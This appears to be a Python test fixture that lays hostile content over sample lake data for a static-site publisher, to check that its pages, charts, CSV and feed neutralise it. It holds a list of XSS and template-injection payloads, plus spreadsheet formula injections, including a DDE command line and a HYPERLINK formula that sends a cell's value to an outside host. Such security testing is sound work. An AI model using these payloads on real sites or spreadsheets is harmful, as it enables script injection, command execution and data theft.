"""The invented lakes as an attacker would send them: a payload in every text of the content.

Each payload calls `hit`, asks for /canary or shows 49 where it is acted on. What begins with a
number in guillemets tells in which place it stood.
"""

import csv
import io
import json
from pathlib import Path
from typing import Any

from tests.publisher.lakes import DESCRIPTOR, LAKES, LAKES_CSV, ROOT, Files

# Text that breaks out of a text, an attribute, a script, a style, a comment, CDATA, Markdown, a
# template, a heading, a list, a table, a footnote; and text that an SVG or a feed would act on.
PAYLOADS = (
    '"><img src="/canary-1" onerror="hit(1)"><script>hit(2)</script>',
    "' onmouseover='hit(3)' autofocus onfocus='hit(4)",
    "</title></style></textarea></script><svg onload=hit(5)><script>hit(6)</script></svg>",
    "]]><script>hit(7)</script> --><script>hit(8)</script>",
    "[click](javascript:hit(9)) ![x](/canary-10) <javascript:hit(11)> [r]: javascript:hit(12)",
    "{{ 7*7 }} {% for x in 'ab' %}{{ x }}{% endfor %} {# gone #} {: onclick=hit(13) } ${7*7} #{7*7}",
    "javascript:hit(14)",
    "<iframe src=javascript:hit(15)></iframe><base href=/canary-16><a href=javascript:hit(17)>a</a>",
    "&lt;img src=/canary-18 onerror=hit(19)&gt; &#60;script&#62;hit(20)&#60;/script&#62;",
    "`code` **bold** # head | cell | [^1] <!-- gone -->",
    '%(x)s %s {0} {x} \\" \\u003cscript\\u003ehit(21)\\u003c/script\\u003e',
    "<use href=\"data:image/svg+xml,<svg id='x' onload='hit(22)'/>#x\"/><set attributeName=onload to=hit(23)>",
)
# What a spreadsheet would run, a text that has an apostrophe already, and texts that are none.
FORMULAS = (
    "=HYPERLINK(\"http://a.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1",
    "＝1+1", "'=1", "''-x", "'quoted'", "1-1",
)  # fmt: skip
# What a payload would have made, had a page acted on it.
MADE = r"\bhit\(|canary|javascript:"


def payload(place: str, number: int) -> str:
    """A payload that tells where it stood. A place of many gets another one with each number."""
    return f"«{place}» {PAYLOADS[number % len(PAYLOADS)]}"


def everything(place: str) -> str:
    """Every payload in one text."""
    return f"«{place}» {' '.join(PAYLOADS)}"


TITLE = everything("title")


def cells() -> str:
    """The lakes with a row for each payload, which is its name."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["lake_id", "name", "area", "opened"])
    writer.writerow(["blue", everything("cell"), "12.5", ""])
    writer.writerow(["green", "javascript:hit(24)", "12", ""])
    for number, formula in enumerate(FORMULAS):
        writer.writerow([f"sum{chr(97 + number)}", formula, "1", ""])
    for number in range(len(PAYLOADS)):
        row = [f"lake{chr(97 + number)}", payload("cell", number), str(number), "1999-05-01"]
        writer.writerow(row)
    return out.getvalue()


def descriptor() -> dict[str, Any]:
    """The description with a payload in each text that is no name, type, date or path."""
    whole = json.loads((LAKES / DESCRIPTOR).read_text(encoding="utf-8"))

    def spoiled(value: Any, key: str, place: str) -> Any:
        if isinstance(value, dict):
            return {k: spoiled(v, k, f"{place}.{k}") for k, v in value.items()}
        if isinstance(value, list):
            return [spoiled(v, key, place) for v in value]
        kept = {"name", "type", "path", "created", "profile", "pattern", "primaryKey"}
        kept |= {"fields", "resource"}
        if not isinstance(value, str) or key in kept:
            return value
        return everything(place).replace("\\", "") if key == "title" else everything(place)

    whole = dict(spoiled(whole, "", "descriptor"))
    bad = "javascript:hit(25)"
    whole |= {"version": everything("version"), "homepage": bad, "keywords": [everything("word")]}
    whole["contributors"] = [{"title": everything("contributor"), "path": bad, "role": "author"}]
    whole["licenses"][0]["path"] = whole["resources"][1]["sources"][0]["path"] = bad
    whole["packages"] = [{"name": "lakes", "title": TITLE, "description": TITLE}]
    name = whole["resources"][0]["schema"]["fields"][1]
    name |= {"example": PAYLOADS[0], "unit": everything("unit"), "mend": everything("mend")}
    return whole


CHART = '''"""Charts of the hostile lakes."""

import altair as alt

from publisher.query import Rows

TITLE = {title!r}


def lake_areas(lake_list: Rows) -> alt.TopLevelMixin:
    """Names on an axis, in a legend, in a text, in a tooltip and as a link."""
    base = alt.Chart(lake_list.data, title=alt.Title(TITLE, subtitle=TITLE), description=TITLE)
    place = base.encode(
        x=alt.X("area:Q", title=TITLE),
        y=alt.Y("name:N", title=TITLE),
        color=alt.Color("name:N", title=TITLE),
        tooltip=["name:N", alt.Tooltip("area:Q", title=TITLE)],
    )
    return place.mark_bar() + place.mark_text().encode(text="name:N")


def linked(links: Rows) -> alt.TopLevelMixin:
    """Marks that are links to what a cell holds."""
    return alt.Chart(links.data).mark_bar().encode(x="area:Q", y="name:N", href="link:N")


def lake_levels(lake_levels: Rows, width: int) -> alt.TopLevelMixin:
    return (
        alt.Chart(lake_levels.data, height=width // 3, title=TITLE)
        .mark_line(point=True)
        .encode(x=alt.X("day:T", title=TITLE, scale=alt.Scale(type="utc")), y="level:Q")
        .properties(usermeta={{"embed": True}})
    )
'''
SQL = """-- title: {title}
-- description: {title}
-- note: {title}
-- row: {title}
-- unit: {title}
"""
PAGE = """---
title: "{{{{ row.name }}}}"
description: "{{{{ row.name }}}} of {{{{ package.title }}}}"
each: lake_list
key: lake_id
path: lakes/{{{{ row.lake_id }}}}
---
# {{{{ row.name }}}}

{{{{ row.name }}}}

- {{{{ row.name }}}}
- [{{{{ row.name }}}}]({{{{ root }}}})

| {{{{ row.name }}}} | b |
| --- | --- |
| {{{{ row.name }}}} | {{{{ row.name }}}} |

<p title="{{{{ row.name }}}}">{{{{ row.name }}}}</p>

{{{{ package.description | prose }}}}

{{{{ figure("lake_levels") }}}}

{{{{ table("lake_list") }}}}

{{{{ code(row.name) }}}}
"""
FEED = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>{{ package.title }}</title>
{% for lake in rows("lake_list") %}<entry><title>{{ lake.name }}</title><link href="{{ lake.name }}"/>
</entry>{% endfor %}</feed>
"""


def files() -> Files:
    """What is laid over the lakes. The theme is the one of the real site."""
    page = (LAKES / "site_src/pages/data/table.md").read_text(encoding="utf-8")
    words = "{{ package.title }} {{ package.licenses }} {{ downloads(row.name) }} {{ row.fields }}"
    config = (LAKES / "mkdocs.yml").read_text(encoding="utf-8")
    config = config.replace(
        "  font: false", "  font: false\n  custom_dir: site_src/theme/overrides"
    )
    config += "extra_javascript: [assets/later.js, assets/find.js, assets/site.js]\n"
    config += "markdown_extensions: [attr_list, tables, footnotes, admonition, {toc: {}}]\n"
    listed = "select lake_id, name, area from lakes order by lake_id\n"
    sql = SQL.format(title=TITLE)
    # Vega draws no other link than one to the web (see test_hostile_content.py).
    linked = "select name, area, 'https://a.example/' || name as link from lakes order by name\n"
    # Titles have no backslash (see test_hostile_files.py).
    own = {
        DESCRIPTOR: json.dumps(descriptor()),
        LAKES_CSV: cells(),
        "mkdocs.yml": config,
        "site_src/charts/lakes.py": CHART.format(title=TITLE.replace("\\", "")),
        "site_src/queries/lake_list.sql": f"{sql}{listed}",
        "site_src/queries/links.sql": f"{sql}{linked}",
        "site_src/pages/lakes/lake.md": PAGE.format(),
        "site_src/pages/data/table.md": f"{page}\n{words}\n\n{{{{ sample(row.name) }}}}\n",
        "site_src/feeds/lakes.xml": FEED,
    }
    theme = ROOT / "site_src/theme"
    real = [file for file in sorted(theme.rglob("*")) if file.is_file()]
    return {**{f"site_src/theme/{_below(f, theme)}": f.read_bytes() for f in real}, **own}


def _below(file: Path, folder: Path) -> str:
    return file.relative_to(folder).as_posix()
